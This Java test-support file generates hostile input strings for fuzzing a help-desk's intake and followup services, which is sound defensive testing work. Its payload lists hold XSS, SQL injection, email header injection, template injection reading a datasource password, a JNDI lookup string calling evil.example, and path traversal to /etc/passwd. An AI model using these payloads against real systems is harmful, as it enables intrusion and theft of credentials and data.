package dev.promesa.testsupport;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * jqwik generators of strings a help desk (or an attacker behind one) may send: markup, header and SQL injection,
 * template syntax, unicode that trips up renderers (RTL overrides, zero-width, combining marks, emoji), control
 * characters, NUL and unpaired surrogates, and plain random strings. Sampled with a fixed {@link Random} so a failing
 * case is reproduced by its seed. Shared by the hostile-input tests of intake and followup.
 */
public final class HostileText {
    public static final List<String> INJECTIONS = List.of(
            "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "\"><b>bold</b><a href='javascript:x'>",
            "&amp; &lt;b&gt; &#x27;", "line one\r\nBcc: victim@example.com", "Subject: hi\r\n\r\nforged body",
            "'; DROP TABLE ticket; --", "' OR '1'='1", "1; SELECT pg_sleep(10)", "\\'; --", "{ticketId}",
            "{#for x in items}{x}{/for}", "{#include layout/mail /}", "{inject:mailer}",
            "{config:'quarkus.datasource.password'}", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}",
            "%s%s%n%x", "../../etc/passwd", "\\u0000", "null", "[]", "{}");
    public static final List<String> UNICODE = List.of(
            "Lucía Fernández Núñez", "مرحبا بالعالم", "שלום עולם", "\u202Egnp.exe", "\u202Bright-to-left\u202C",
            "zero\u200Bwidth\u200C\u200D\uFEFFjoiner", "👩‍👩‍👧‍👦😀🇪🇸", "e\u0301\u0301\u0301\u0301", "漢字かなカナ",
            "line\u2028sep\u2029para", "\u00A0\u3000nbsp", "Ω≈ç√∫˜µ≤", "\uFFFD\uFFFE\uFFFF", "𝕳𝖔𝖘𝖙𝖎𝖑𝖊");
    public static final List<String> CONTROL = List.of("\r\n", "\n", "\t", "\u001B[31mred", "\u0007", "\u007F",
            "\u0085");
    /** Cannot be stored in PostgreSQL text or encoded as UTF-8 on the topic, so intake must refuse them. */
    public static final List<String> UNSTORABLE = List.of("\u0000", "a\u0000b", "\uD800", "x\uDC00y", "\uDBFF");

    private static final Pattern ASCII_CONTROL = Pattern.compile("\\p{Cntrl}");

    private HostileText() {
    }

    /** One to four hostile fragments glued together, sometimes with plain random characters. */
    public static Arbitrary<String> any() {
        Arbitrary<String> fragment = Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(4, Arbitraries.of(INJECTIONS)),
                net.jqwik.api.Tuple.of(4, Arbitraries.of(UNICODE)),
                net.jqwik.api.Tuple.of(2, Arbitraries.of(CONTROL)),
                net.jqwik.api.Tuple.of(1, Arbitraries.of(UNSTORABLE)),
                net.jqwik.api.Tuple.of(3, Arbitraries.strings().all().ofMaxLength(12)),
                net.jqwik.api.Tuple.of(1, Arbitraries.strings().withCharRange('\u0590', '\u06FF').ofMaxLength(12)));
        return fragment.list().ofMinSize(1).ofMaxSize(4).map(parts -> String.join("", parts));
    }

    /** Hostile text that is still valid Unicode free of NUL: what intake must accept in a free-text field. */
    public static Arbitrary<String> storable() {
        return any().filter(text -> !unstorable(text) && !text.isBlank());
    }

    /**
     * Seeds jqwik's sampling on this thread and returns the same source of randomness for the test's own choices, so
     * one seed fixes the whole sequence of cases. jqwik's engine runs no Quarkus tests, so we sample outside it; its
     * seedable source is engine-internal (runtime scope), hence the reflection.
     */
    public static Random seed(long seed) {
        try {
            return (Random) Class.forName("net.jqwik.engine.SourceOfRandomness").getMethod("create", String.class)
                    .invoke(null, Long.toString(seed));
        } catch (ReflectiveOperationException e) {
            throw new IllegalStateException("jqwik's engine (net.jqwik:jqwik) must be on the test classpath", e);
        }
    }

    /** One value from jqwik's sample stream; {@code random} only documents that {@link #seed} was called. */
    public static <T> T sample(Arbitrary<T> arbitrary, Random random) {
        return arbitrary.sample();
    }

    public static boolean unstorable(String text) {
        if (text.indexOf('\u0000') >= 0) {
            return true;
        }
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (Character.isHighSurrogate(c)) {
                if (i + 1 >= text.length() || !Character.isLowSurrogate(text.charAt(i + 1))) {
                    return true;
                }
                i++;
            } else if (Character.isLowSurrogate(c)) {
                return true;
            }
        }
        return false;
    }

    public static boolean hasAsciiControl(String text) {
        return ASCII_CONTROL.matcher(text).find();
    }

    /** Percent-encodes every byte but RFC 3986's unreserved characters, for a path segment. */
    public static String pathSegment(String text) {
        StringBuilder out = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xFF;
            if (c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || "-._~".indexOf(c) >= 0) {
                out.append((char) c);
            } else {
                out.append('%').append(String.format("%02X", c));
            }
        }
        return out.toString();
    }

    /** Shows control and invisible characters, so a failure message can be read. */
    public static String visible(String text) {
        StringBuilder out = new StringBuilder();
        text.codePoints().forEach(cp -> {
            if (cp < 0x20 || cp == 0x7F || cp >= 0x80 && cp < 0xA0 || Character.getType(cp) == Character.FORMAT
                    || Character.getType(cp) == Character.SURROGATE || cp == 0x2028 || cp == 0x2029) {
                out.append(String.format("\\u%04X", cp));
            } else {
                out.appendCodePoint(cp);
            }
        });
        return out.toString();
    }
}
